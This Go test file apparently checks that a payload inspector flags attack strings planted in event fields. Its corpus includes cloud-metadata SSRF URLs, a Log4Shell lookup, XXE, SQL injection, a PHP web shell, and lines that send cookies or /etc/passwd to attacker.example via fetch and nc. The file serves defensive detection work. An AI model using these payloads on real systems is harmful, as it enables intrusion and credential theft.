package corpus

import (
	"context"
	"encoding/json"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"weir/inspect"
	"weir/inspect/source"
)

// inKind are attacks that must be found in fields that a user has declared, by kind; "" are those for fields of all kinds.
var inKind = map[string][]string{
	"": {
		"http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
		"http://localhost:9057/",
		"http://[::ffff:7f00:1]:8080/",
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"http://169.254.170.2/v2/credentials/a1b2",
		"/proc/self/environ",
		"${jndi:ldap://attacker.example/a}",
		"process.env.AWS_SECRET_ACCESS_KEY",
		`<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>`,
		`<a href="javascript:alert(document.cookie)">x</a>`,
		"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
		`{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`,
	},
	"markup": {
		"1' UNION SELECT password FROM users -- ", "../../../../etc/passwd", "; cat /etc/passwd | nc attacker.example 4444",
		"<?php system($_GET['c']); ?>",
	},
	"code":     {"<script>fetch('//attacker.example/?'+document.cookie)</script>", `<img src=x onerror="alert(1)">`},
	"log":      {"<script>fetch('//attacker.example/?'+document.cookie)</script>", `<img src=x onerror="alert(1)">`},
	"password": {"' or '1'='1", "1' OR 1=1-- -", "$(id)", "x' UNION SELECT password FROM users -- ", "; cat /etc/passwd", "<script>alert(1)</script>", "../../../../etc/passwd"},
}

func TestOtherAttacksAreFoundInTheVeryFieldsThatAreDeclared(t *testing.T) {
	tried := map[string]int{}
	for _, b := range honest(t) {
		if b.Declared == "" {
			continue
		}
		fields, err := b.fields()
		if err != nil {
			t.Fatal(err)
		}
		inspector, err := inspectorAt(1, fields...)
		if err != nil {
			t.Fatal(err)
		}
		judge := func(attacked Benign) inspect.Verdict {
			event, err := attacked.Bytes()
			if err != nil {
				t.Fatal(err)
			}
			v, _ := inspector.Inspect(context.Background(), source.Invocation{ID: b.ID, Payload: event})
			return v
		}
		for _, f := range fields {
			// Where an attack of every kind is seen in the field, any other stands there too.
			places := slices.DeleteFunc(b.places(), func(put func(string) Benign) bool {
				v := judge(put("${jndi:ldap://attacker.example/a}"))
				return !slices.ContainsFunc(v.Matches, func(m inspect.Match) bool { return fits(f.Field, m.Field) })
			})
			if len(places) == 0 {
				t.Errorf("%s: nothing of the event is %s", b.ID, f.Field)
				continue
			}
			for _, attack := range slices.Concat(inKind[""], inKind[f.Kind.String()]) {
				tried[f.Kind.String()]++
				if v := judge(places[0](attack)); v.Score < Threshold {
					t.Errorf("%s: %q in %s, which is %s, scores %d", b.ID, attack, f.Field, f.Kind, v.Score)
				}
			}
		}
	}
	for _, kind := range []string{"markup", "code", "log", "password"} {
		if tried[kind] < 2*len(inKind[""]) {
			t.Errorf("%d attacks in fields of the kind %s", tried[kind], kind)
		}
	}
}

// fits says whether a path fits a glob, as WEIR_FIELDS has it.
func fits(glob, path string) bool {
	return regexp.MustCompile(`^` + strings.ReplaceAll(regexp.QuoteMeta(glob), `\*`, `.*`) + `$`).MatchString(path)
}

// places returns what puts a text in the place of one text of an event: of its payload, or of one in that, if it is a
// request or an event of its own.
func (b Benign) places() []func(text string) Benign {
	replaced := func(whole func(text string) string) func(string) Benign {
		return func(text string) Benign {
			other := b
			other.Payload, other.Binary = whole(text), false
			return other
		}
	}
	var list []func(string) Benign
	in := func(before, document string) {
		if first, _, _ := strings.Cut(document, "\n"); !json.Valid([]byte(document)) && !json.Valid([]byte(first)) {
			list = append(list, replaced(func(text string) string { return before + text }))
			return
		}
		for _, at := range texts(document) {
			list = append(list, replaced(func(text string) string {
				return before + document[:at[0]] + jsonText(text) + document[at[1]:]
			}))
		}
	}
	switch b.Event {
	case asWhole:
		in("", b.Payload)
	case asRequest:
		head, body, _ := strings.Cut(b.Payload, "\n\n")
		for _, at := range queryValue.FindAllStringIndex(head, -1) {
			list = append(list, replaced(func(text string) string {
				return head[:at[0]+1] + url.QueryEscape(text) + head[at[1]:] + "\n\n" + body
			}))
		}
		in(head+"\n\n", body)
		for _, at := range partText.FindAllStringSubmatchIndex(body, -1) {
			list = append(list, replaced(func(text string) string { return head + "\n\n" + body[:at[2]] + text + body[at[3]:] }))
		}
	default:
		in("", b.Payload)
		if json.Valid([]byte(b.Payload)) {
			list = append(list, replaced(func(text string) string { return text }))
		}
	}
	return list
}

var (
	queryValue = regexp.MustCompile(`=[^&\s]*`)
	partText   = regexp.MustCompile(`(?s)\n\n(.*?)\n--`) // of a part of a multipart body
	jsonString = regexp.MustCompile(`"(?:[^"\\]|\\.)*"`)
)

// texts returns where the strings of a document of JSON stand that are no names.
func texts(document string) [][2]int {
	var list [][2]int
	for _, at := range jsonString.FindAllStringIndex(document, -1) {
		if !strings.HasPrefix(strings.TrimLeft(document[at[1]:], " \n"), ":") {
			list = append(list, [2]int{at[0], at[1]})
		}
	}
	return list
}
